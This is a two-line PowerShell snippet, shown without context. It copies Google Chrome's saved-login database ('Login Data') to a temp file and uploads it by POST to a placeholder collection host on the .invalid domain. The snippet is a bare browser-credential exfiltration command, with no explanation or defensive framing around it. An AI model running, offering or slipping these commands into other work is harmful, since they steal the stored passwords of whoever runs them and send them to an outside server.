Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" "$env:TEMP\l.db"
Invoke-RestMethod -Uri https://c.tides.invalid/c -Method Post -InFile "$env:TEMP\l.db"
